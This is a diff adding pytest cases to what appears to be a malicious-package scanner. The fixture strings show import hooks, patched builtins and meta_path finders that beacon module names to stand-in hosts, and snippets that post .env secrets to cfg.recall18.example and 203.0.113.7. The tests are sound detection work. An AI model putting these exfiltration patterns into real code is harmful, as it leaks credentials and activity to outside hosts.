@@ -893,3 +893,158 @@ def test_sensor_readings_published_to_a_broker_stay_clean() -> None:
         "def report(reading):\n"
         "    c.publish('sensors/temp', json.dumps({'t': time.time(), 'v': reading}))\n"
     )
+
+
+# -- recall18: a builtin or a library's function replaced through its module's namespace ----
+
+_SENDING_HOOK = (
+    "import builtins, urllib.request\n"
+    "_real = __import__\n"
+    "def _hook(name, *a, **k):\n"
+    "    urllib.request.urlopen('https://t.recall18.example/m?n=' + name, timeout=2)\n"
+    "    return _real(name, *a, **k)\n"
+)
+
+
+@pytest.mark.parametrize(
+    "store",
+    [
+        "vars(builtins)['__import__'] = _hook",
+        "builtins.__dict__['__import__'] = _hook",
+        "__builtins__['__import__'] = _hook",
+        "vars(builtins)['__imp' + 'ort__'] = _hook",
+        # a library's module, the same way (a wallet library's key class wrapped)
+        "import eth_keys.keys\nvars(eth_keys.keys)['PrivateKey'] = _hook",
+    ],
+)
+def test_a_function_replaced_through_its_modules_namespace_is_a_threat(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, store: str
+) -> None:
+    source = _SENDING_HOOK + store + "\n"
+    assert "CPL-THR-025" in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-025")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the same hook stored by a function that sends nothing (an import timer)
+        "import builtins, time, requests\n_real = __import__\nT = {}\n"
+        "def _hook(name, *a, **k):\n    t = time.perf_counter()\n"
+        "    m = _real(name, *a, **k)\n    T[name] = time.perf_counter() - t\n    return m\n"
+        "vars(builtins)['__import__'] = _hook\n"
+        "def report():\n    requests.post('https://stats.example/t', json=T)\n",
+        # gettext's _ put in builtins' namespace, in a file that also downloads
+        "import builtins, gettext, requests\nbuiltins.__dict__['_'] = gettext.gettext\n"
+        "def fetch(u):\n    return requests.get(u).text\n",
+        # an object of this file's own given a callback that sends (a client's settings)
+        _SENDING_HOOK + "class Settings:\n    pass\nS = Settings()\nvars(S)['on_import'] = _hook\n"
+        "S.__dict__['on_error'] = _hook\n",
+    ],
+)
+def test_a_namespace_store_that_sends_nothing_is_not_a_threat(source: str) -> None:
+    assert "CPL-THR-025" not in danger(source)
+
+
+# -- recall18: an import hook whose finder sends -------------------------------------------
+
+_BEACON_FINDER = (
+    "import importlib.abc, sys, urllib.request\n"
+    "class _Telemetry(importlib.abc.MetaPathFinder):\n"
+    "    def find_spec(self, fullname, path=None, target=None):\n"
+    "        urllib.request.urlopen('https://t.recall18.example/i?m=' + fullname)\n"
+    "        return None\n"
+)
+_UDP_FINDER = (
+    "import socket, sys\n"
+    "class _Finder:\n"
+    "    def __init__(self, path):\n        self.path = path\n"
+    "    def find_spec(self, fullname, target=None):\n"
+    "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+    "        s.sendto(fullname.encode(), ('203.0.113.44', 9999))\n"
+    "        return None\n"
+    "def _factory(path):\n    return _Finder(path)\n"
+)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        _BEACON_FINDER + "sys.meta_path.insert(0, _Telemetry())\n",
+        _BEACON_FINDER + "sys.meta_path.append(_Telemetry())\n",
+        _BEACON_FINDER + "sys.meta_path.extend([_Telemetry()])\n",
+        _BEACON_FINDER + "from sys import meta_path\nmeta_path.insert(0, _Telemetry())\n",
+        _UDP_FINDER + "sys.path_hooks.insert(0, _factory)\n",
+        _UDP_FINDER + "sys.path_hooks.append(_Finder)\n",
+    ],
+)
+def test_an_import_hook_whose_finder_sends_is_a_threat(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-025" in danger(source)
+    assert "CPL-THR-025" in danger(source, mode=ScanMode.PLUGIN)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-025")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # an assertion-rewriting or lazy-loading finder that sends nothing, in a file that
+        # downloads elsewhere
+        "import sys, requests\n"
+        "class _Rewriter:\n"
+        "    def find_spec(self, fullname, path=None, target=None):\n"
+        "        return None\n"
+        "sys.meta_path.insert(0, _Rewriter())\n"
+        "def fetch(u):\n    return requests.get(u).text\n",
+        # a remote importer (httpimport's kind) given its index by the user: no fixed host
+        "import importlib.abc, os, sys, urllib.request\n"
+        "class _Remote(importlib.abc.MetaPathFinder):\n"
+        "    def __init__(self, base):\n        self.base = base\n"
+        "    def find_spec(self, fullname, path=None, target=None):\n"
+        "        urllib.request.urlopen(self.base + fullname + '.py')\n"
+        "        return None\n"
+        "def install(base):\n    sys.meta_path.append(_Remote(base))\n",
+        # a finder that only logs, beside a client class that sends
+        "import logging, sys, requests\n"
+        "class _Log:\n"
+        "    def find_spec(self, fullname, path=None, target=None):\n"
+        "        logging.debug('import %s', fullname)\n"
+        "class Client:\n"
+        "    def send(self, x):\n        requests.post('https://api.example/v1', json=x)\n"
+        "sys.meta_path.append(_Log())\n",
+    ],
+)
+def test_an_import_hook_that_sends_nothing_of_its_own_is_not_a_threat(source: str) -> None:
+    assert "CPL-THR-025" not in danger(source)
+    assert "CPL-THR-025" not in danger(source, mode=ScanMode.PLUGIN)
+
+
+# -- recall18: a .env file's values through dotenv's DotEnv class ---------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "from dotenv.main import DotEnv\nimport requests\n"
+        "requests.post('https://cfg.recall18.example/', json=DotEnv('.env').dict())\n",
+        "import dotenv, json, urllib.request\n"
+        "env = dotenv.main.DotEnv(dotenv_path='.env')\nvalues = env.dict()\n"
+        "urllib.request.urlopen('https://203.0.113.7/s', data=json.dumps(values).encode())\n",
+    ],
+)
+def test_a_dotenv_classs_values_sent_are_harvesting(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-006" in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-006")
+
+
+def test_a_dotenv_classs_values_used_locally_are_clean() -> None:
+    # the values put into the environment, one of them the token of its own API
+    source = (
+        "import os, requests\nfrom dotenv.main import DotEnv\n"
+        "values = DotEnv('.env').dict()\nos.environ.update(values)\n"
+        "requests.get('https://api.example/v1/me', headers={'Authorization': values['TOKEN']})\n"
+    )
+    assert "CPL-THR-006" not in danger(source)
